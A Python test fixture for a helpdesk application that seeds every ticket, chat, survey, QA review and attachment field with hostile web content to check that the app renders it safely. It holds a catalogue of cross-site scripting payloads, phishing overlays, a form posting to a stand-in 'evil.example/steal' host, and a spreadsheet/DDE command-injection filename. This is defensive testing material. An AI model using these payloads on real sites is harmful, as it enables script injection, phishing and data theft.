"""Hostile content for the hostile-content tests: one desk whose every customer-written field
(and every staff-written free text) carries script, event handlers, ``javascript:`` and ``data:``
links, SVG, CSS overlays, remote images, frames, meta refresh, base and form tricks.

``hostile_desk`` builds it through the real inbound API and the services, the way the data
would arrive in production.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from email.headerregistry import Address
from email.message import EmailMessage
from email.utils import make_msgid

import time_machine
from django.utils import timezone

from tests.helpers import post_email

# Every marker sets window.__pwned or opens a dialog if it ever runs; every URL points outside.
H = (
    '"><script>window.__pwned="script";alert("script")</script>'
    '<img src="http://evil.example/pixel.png" onerror="window.__pwned=\'onerror\'">'
    '<svg onload="window.__pwned=\'svg\'"><circle r="1"/></svg>'
    "<a href=\"javascript:window.__pwned='js-link'\">js link</a>"
    '<a href="data:text/html,<script>alert(1)</script>">data link</a>'
    '[markdown link](javascript:alert("md")) [data md](data:text/html;base64,PHNjcmlwdD4=)'
    '<iframe src="http://evil.example/frame"></iframe>'
    "<style>body{position:fixed;inset:0;background:url(http://evil.example/bg.png)}</style>"
    '<div style="position:fixed;inset:0;z-index:99999;background:red">OVERLAY</div>'
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">'
    '<base href="http://evil.example/">'
    '<form action="http://evil.example/steal"><button>go</button></form>'
    "<body onload=\"window.__pwned='body'\">"
)
# One-line variant for headers (a subject, a display name) and short fields.
H_LINE = '<script>alert("s")</script><img src=x onerror="window.__pwned=1"> =HYPERLINK("http://evil.example")'

EMAIL_HTML = f"""<!doctype html><html><head>
<base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<link rel="stylesheet" href="http://evil.example/x.css">
<style>
  .overlay {{ position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 99999; }}
  body {{ background-image: url("http://evil.example/bg.png"); }}
  @import url("http://evil.example/import.css");
</style>
<script src="http://evil.example/x.js"></script>
</head><body onload="window.__pwned='body'">
<div class="overlay" style="background:red">Please verify your account</div>
<p>Hello, I need help with my order.</p>
{H}
<img src="http://evil.example/tracker.gif" width="1" height="1">
<img src="cid:logo">
<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf">
<video src="http://evil.example/v.mp4" poster="http://evil.example/p.png"></video>
<a href="http://evil.example/phish" style="position:fixed;inset:0">Click anywhere</a>
<table background="http://evil.example/t.png"><tr><td>table</td></tr></table>
</body></html>"""

HTML_ATTACHMENT = (
    b"<html><body><script>window.opener&&(window.opener.__pwned='attachment');alert(1)"
    b"</script><img src='http://evil.example/a.png'></body></html>"
)
SVG_ATTACHMENT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b'<script>alert("svg")</script><image href="http://evil.example/s.png"/></svg>'
)


def hostile_email(*, name: str, address: str, subject: str) -> bytes:
    message = EmailMessage()
    user, domain = address.split("@")
    message["From"] = Address(display_name=name, username=user, domain=domain)
    message["To"] = "support@desk.example"
    message["Subject"] = subject
    message["Message-ID"] = make_msgid(domain="mail.example.com")
    message.set_content(f"Hello, I need help.\n\n{H}\n\n[click me](javascript:alert(1))\n")
    message.add_alternative(EMAIL_HTML, subtype="html")
    message.add_attachment(
        HTML_ATTACHMENT,
        maintype="text",
        subtype="html",
        filename='"><img src=x onerror=alert(1)>.html',
    )
    message.add_attachment(SVG_ATTACHMENT, maintype="image", subtype="svg+xml", filename="logo.svg")
    message.add_attachment(
        b"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        maintype="application",
        subtype="xml",
        filename="=cmd|' /C calc'!A0.xml",
    )
    return message.as_bytes()


def post_email_accepted(channel, raw: bytes) -> dict:
    response = post_email(channel, raw)
    assert response.status_code in (200, 201), response.content
    return response.json()


@dataclass
class HostileDesk:
    email_conversation: int
    chat_conversation: int
    social_conversation: int
    qa_conversation: int
    review: int
    idea: int
    survey_token: str
    attachments: list[int] = field(default_factory=list)


def hostile_desk(*, channels, agent, manager) -> HostileDesk:
    """Builds the hostile desk: every field a customer or a colleague writes is hostile."""
    from metrics.services import facts_compute
    from quality.models import CancellationReason
    from quality.services import (
        cancellation_reasons_ensure_default,
        cancellation_record,
        idea_create,
        qa_review_dispute,
        qa_review_submit,
        qa_sample_draw,
    )
    from surveys.models import Survey
    from surveys.services import Answer, survey_answer, survey_token, surveys_send_due
    from tests.factories import make_staff
    from tickets.models import Conversation, Message
    from tickets.services import (
        conversation_reply,
        conversation_solve,
        inbound_chat,
        inbound_social,
    )

    # Last week: a hostile conversation Alice solved, drawn for QA, reviewed and disputed.
    monday = (timezone.now() - timedelta(days=7)).date()
    monday -= timedelta(days=monday.weekday())
    with time_machine.travel(
        datetime.combine(monday, datetime.min.time(), UTC) + timedelta(hours=33)
    ):
        qa = post_email_accepted(
            channels["email"],
            hostile_email(name=H_LINE, address="qa-victim@example.com", subject=f"QA {H_LINE}"),
        )
        qa_conversation = Conversation.objects.get(pk=qa["conversation"])
        conversation_reply(conversation=qa_conversation, author=agent, body=H, deliver=False)
        conversation_solve(conversation=qa_conversation, actor=agent)
    sample = qa_sample_draw(week_start=monday, size_per_agent=1, seed="hostile")
    review = sample.reviews.get()
    criteria = list(review.rubric.criteria.all())
    review = qa_review_submit(
        review=review,
        reviewer=review.reviewer,
        values={c.pk: c.bounds[1] for c in criteria},
        comment=H,
    )
    make_staff("bo@desk.example", role="manager", teams=["Team A"], full_name=H_LINE)
    qa_review_dispute(review=review, agent=agent, comment=H)

    # Today: an email with everything hostile, answered, solved, surveyed and answered.
    first = post_email_accepted(
        channels["email"],
        hostile_email(name=H_LINE, address="victim@example.com", subject=f"Order {H_LINE}"),
    )
    email_conversation = Conversation.objects.get(pk=first["conversation"])
    conversation_reply(
        conversation=email_conversation,
        author=agent,
        body="See [our help](javascript:alert(1)) and <script>alert(2)</script>",
        deliver=False,
    )
    conversation_solve(conversation=email_conversation, actor=agent)

    chat = inbound_chat(
        channel=channels["chat"],
        external_id="hostile-chat-1",
        session_id="hostile-session",
        visitor_id="hostile-visitor",
        email="chatter@example.com",
        name=H_LINE,
        body=H,
    )
    chat_conversation = Conversation.objects.get(pk=chat.conversation_id)
    conversation_solve(conversation=chat_conversation, actor=agent)
    social = inbound_social(
        channel=channels["social"],
        external_id="hostile-social-1",
        network="x",
        handle="@hostile",
        body=H,
    )

    with time_machine.travel(timezone.now() + timedelta(hours=2)):
        surveys_send_due()
    happy = Survey.objects.get(conversation=email_conversation)
    unhappy = Survey.objects.get(conversation=chat_conversation)
    survey_answer(
        survey=happy,
        answer=Answer(resolved="yes", csat=5, comment=H, shout_out=True),
    )
    survey_answer(survey=unhappy, answer=Answer(resolved="no", csat=1, nps=0, comment=H))

    inbound = Message.objects.filter(conversation=email_conversation, direction="inbound").first()
    idea = idea_create(message=inbound, actor=agent, title=H_LINE, quote=H)
    cancellation_reasons_ensure_default()
    cancellation_record(
        conversation=chat_conversation,
        actor=agent,
        reason=CancellationReason.objects.order_by("pk").first(),
        note=H,
    )
    facts_compute(day_from=monday - timedelta(days=7), day_to=timezone.localdate())

    return HostileDesk(
        email_conversation=email_conversation.pk,
        chat_conversation=chat_conversation.pk,
        social_conversation=social.conversation_id,
        qa_conversation=qa_conversation.pk,
        review=review.pk,
        idea=idea.pk,
        survey_token=survey_token(happy),
        attachments=list(
            Message.objects.get(pk=first["message"]).attachments.values_list("pk", flat=True)
        ),
    )
